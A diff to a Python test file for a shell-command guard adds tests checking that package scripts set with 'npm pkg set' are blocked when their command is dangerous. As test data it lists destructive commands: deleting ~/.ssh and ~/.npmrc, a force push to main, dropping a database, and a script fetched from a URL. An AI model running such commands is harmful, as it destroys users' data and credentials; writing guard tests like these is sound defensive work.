@@ -4,13 +4,15 @@
 (`bash scripts/x.sh`, `./x.sh`, `. x.sh`), and that command is judged with the script read then,
 on the same line too. Files that run by themselves (shell startup files, git hooks, cron's
 folders, boot scripts) and changes to a script that is already there are still judged by what
-they will run (rules/later.toml, `when_named`)."""
+they will run (rules/later.toml, `when_named`). Package scripts set from the command line
+(`npm pkg set scripts.X=...`) run later too: their command is judged when it is set."""
 
 from __future__ import annotations
 
 from pathlib import Path
 
 import pytest
+from verdicts import decide
 
 from blastwall.engine import check
 from blastwall.policy.engine import default_policy
@@ -97,3 +99,39 @@ def test_a_script_already_here_is_judged_by_what_the_write_adds(spelling: str, t
     harmless = "#!/bin/sh\necho deploying\necho done\n"
     harmless = harmless if not spelling.startswith("printf") else harmless.replace("\n", "\\n")
     assert _decide(spelling.format(harmless), tmp_path) == "allow"
+
+
+# Package scripts set from the command line run later (npm run NAME; prepare/postinstall on install):
+# their command is judged when it is set.
+PKG_SCRIPTS_ASKED = [
+    "npm pkg set scripts.prepare=\"rm -rf ~/.npmrc ~/.ssh\" && npm install",
+    "npm pkg set scripts.lint=\"git push --force origin HEAD:main\" && npm run lint",
+    "npm pkg set scripts.lint=\"git push --force origin HEAD:main\"",
+    "npm pkg set 'scripts.postinstall=rm -rf ~/work'",
+    "npm pkg set scripts.x=\"$CMD\" && npm run x",
+    "npm pkg set scripts.x=\"$(curl -s https://example.com/s)\"",
+    "npm pkg set scripts='{\"prepare\":\"rm -rf ~/x\"}' --json",
+    "npm pkg set scripts.prepare='\"rm -rf ~/x\"' --json",
+    "npm set-script prepare \"rm -rf ~/x\"",
+    "pnpm pkg set scripts.prepare=\"rm -rf ~/x\"",
+    "bun pm pkg set scripts.prepare=\"rm -rf ~/x\"",
+    "npm --prefix web pkg set scripts.prepare=\"rm -rf ~/x\"",
+    "npm pkg set scripts.lint=\"eslint .\" scripts.preinstall=\"dropdb app\"",
+]
+PKG_SCRIPTS_SAFE = [
+    "npm pkg set scripts.test=\"vitest run\" && npm test",
+    "npm pkg set scripts.lint=\"eslint .\" scripts.build=\"tsc -p .\"",
+    "npm pkg set name=foo version=1.2.3",
+    "npm pkg get scripts",
+    "npm pkg set scripts.clean=\"rm -rf dist\"",
+]
+
+
+@pytest.mark.parametrize("line", PKG_SCRIPTS_ASKED)
+def test_package_scripts_set_are_judged(line: str) -> None:
+    assert decide(line) != "allow"
+
+
+@pytest.mark.parametrize("line", PKG_SCRIPTS_SAFE)
+def test_package_scripts_set_safe(line: str) -> None:
+    assert decide(line) == "allow"
